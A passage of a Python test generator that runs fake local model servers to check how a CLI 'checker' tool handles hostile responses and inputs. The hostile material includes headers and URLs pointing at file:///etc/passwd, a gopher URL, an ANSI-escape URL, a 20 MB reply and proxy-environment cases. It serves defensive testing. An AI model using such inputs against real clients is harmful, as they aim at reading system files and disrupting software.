    c.sendall(reply(answer(), head=b"Set-Cookie: a=b; Path=/\r\nContent-Encoding: deflate, gzip, br, x\r\nLink: <file:///etc/passwd>; rel=next\r\nRefresh: 0; url=file:///etc/passwd\r\n", kind=b"application/json; charset=unicode_escape"))


@endpoint("answer-of-20mb")
def _(c, r, stop):
    body = answer("はい" * 2_000_000, {"content": []})
    piece = b'{"token": "x", "logprob": -0.1, "top_logprobs": []}, ' * 200_000
    c.sendall(reply(body.replace(b'"content": []', b'"content": [' + piece + b"null]", 1)))


class Server:
    def __init__(self, name: str):
        self.behave = ENDPOINTS[name]
        self.requests: list[bytes] = []
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.ended = threading.Event()
        threading.Thread(target=self.accept, daemon=True).start()

    def accept(self):
        while not self.ended.is_set():
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self.one, args=(c,), daemon=True).start()

    def one(self, c):
        with contextlib.suppress(OSError), c:
            c.settimeout(5)
            r = b""
            with contextlib.suppress(TimeoutError):
                while b"\r\n\r\n" not in r and len(r) < 1 << 20:
                    piece = c.recv(65536)
                    if not piece:
                        break
                    r += piece
                head, _, body = r.partition(b"\r\n\r\n")
                for line in head.split(b"\r\n"):
                    if line.lower().startswith(b"content-length:"):
                        want = int(line.split(b":")[1])
                        while len(body) < min(want, 1 << 22):
                            piece = c.recv(65536)
                            if not piece:
                                break
                            body += piece
                r = head + b"\r\n\r\n" + body
            self.requests.append(r[:100_000])
            c.settimeout(60)
            self.behave(c, r, self.ended.is_set)

    def close(self):
        self.ended.set()
        self.sock.close()


@contextlib.contextmanager
def serve(name: str):
    s = Server(name)
    try:
        yield s
    finally:
        s.close()


for _name in ENDPOINTS:
    if _name == "record":
        continue

    def _build(folder, outside):
        w(folder / "judging.yaml", JUDGE)
        w(folder / "a.md", JUDGED)

    CASES.append(Case(f"endpoint-{_name}", EP, _build, [["checker", "check", "a.md", "-r", "judging.yaml", "--model", "openai:x"]], env=dict(EP_ENV), endpoint=_name,
                      note="Server.requests of redirect-elsewhere must not hold a request for /elsewhere with the key or the text" if _name == "redirect-elsewhere" else ""))

CASES.append(Case("endpoint-bad-urls", EP, lambda f, o: [w(f / "judging.yaml", JUDGE), w(f / "a.md", JUDGED)], [["checker", "check", "a.md", "-r", "judging.yaml", "--model", f"openai:x@{u}"] for u in ("file:///etc/passwd", "http://[::1", "http://127.0.0.1:99999/\x1b[31m")], env={"CHECKER_ENDPOINT__TIMEOUT": "3", "CHECKER_ENDPOINT__RETRIES": "0", "CHECKER_ENDPOINT__URL": "gopher://127.0.0.1:9/x"}))
CASES.append(Case("endpoint-proxy-of-environment", EP, lambda f, o: [w(f / "judging.yaml", JUDGE), w(f / "a.md", JUDGED)], [["checker", "check", "a.md", "-r", "judging.yaml", "--model", "openai:x"]],
                  env={**EP_ENV, "CHECKER_ENDPOINT__URL": "http://127.0.0.1:9/v1", "HTTP_PROXY": "http://127.0.0.1:@PORT@", "http_proxy": "http://127.0.0.1:@PORT@", "ALL_PROXY": "http://127.0.0.1:@PORT@"}, endpoint="record", note="a local address through a proxy: for the documents to say; no crash"))
CASES.append(Case("endpoint-new-writes", EP, lambda f, o: w(f / "notes.txt", "フォークリフトを買う。\n"), [["checker", "new", "ringi", "--notes", "notes.txt", "--model", "openai:x", "-o", "o.docx", "--time-limit", "20"]], env={**EP_ENV, "CHECKER_ENDPOINT__RETRIES": "0"}, endpoint="escapes-in-answer"))

names_ = [c.name for c in CASES]
assert len(names_) == len(set(names_)), [n for n in names_ if names_.count(n) > 1]


# ================================================================ try the generator itself


def clean(top: Path) -> None:
    """Remove a folder with anything in it: deep ones, ones without permissions, names in bytes."""
    subprocess.run(["chmod", "-R", "u+rwX", str(top)], capture_output=True, check=False)
    subprocess.run(["rm", "-rf", "--one-file-system", str(top)], check=True)


def disk_use(top: Path) -> int:
    done = subprocess.run(["du", "-sk", str(top)], capture_output=True, text=True, check=False)
    return int(done.stdout.split()[-2]) if done.stdout else 0


if __name__ == "__main__":
    from collections import Counter

    only = sys.argv[1:]
    bad = []
    for k in CASES:
        if only and not any(o in k.name for o in only):
            continue
        top = Path(tempfile.mkdtemp(prefix="hostile-"))
        folder_, outside_ = top / "folder", top / "outside"
        folder_.mkdir()
        prepare_outside(outside_)
        began = time.perf_counter()
        try:
            k.build(folder_, outside_)
            seconds = time.perf_counter() - began
            size = disk_use(top) / 1024
            k.argvs(folder_, outside_, 1)
            stdin_size = len(k.input(folder_, outside_, 1) or b"")
            problem = ""
            if seconds > 3 or size > 200 or (outside_ / "ran.log").exists() or not (outside_ / "victim.txt").exists():
                problem = "!!"
                bad.append(k.name)
            if len(k.commands) > 3 or not k.commands:
                problem += " commands"
                bad.append(k.name)
            print(f"{k.name:48} {k.group:14} {seconds:6.2f} s {size:7.1f} MiB stdin {stdin_size} {problem}", flush=True)
        except Exception as e:  # noqa: BLE001
            bad.append(k.name)
            print(f"{k.name:48} {k.group:14} FAILED {type(e).__name__}: {str(e)[:300]}", flush=True)
        finally:
            clean(top)
    print(dict(Counter(c.group for c in CASES)), len(CASES), "cases; bad:", bad)
